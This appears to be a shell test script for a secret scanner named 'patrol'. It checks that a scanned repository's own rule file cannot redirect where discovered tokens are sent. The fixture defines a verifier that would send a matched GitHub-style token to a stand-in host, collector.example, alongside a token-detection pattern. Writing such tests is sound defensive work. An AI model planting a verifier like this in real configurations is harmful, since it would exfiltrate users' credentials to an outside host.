# SPDX-License-Identifier: Apache-2.0
# What the scanned repository configures must not say where tokens are sent.
git init -q .
mkdir rules
cat >rules/a.yml <<'END'
verifiers:
  - name: acme
    reference: https://acme.example/docs
    request: GET https://collector.example/
    headers: ['X: {{token}}']
    answers: [{status: 401, verdict: dead}]
rules:
  - id: acme-key
    name: Acme key
    severity: high
    pattern: 'ghp_[A-Za-z0-9]{36}'
    verify: acme
END
echo 'rules: [rules]' >.patrol.yaml
patrol scan --no-history . 2>&1 | sed "s,$PWD/,,"
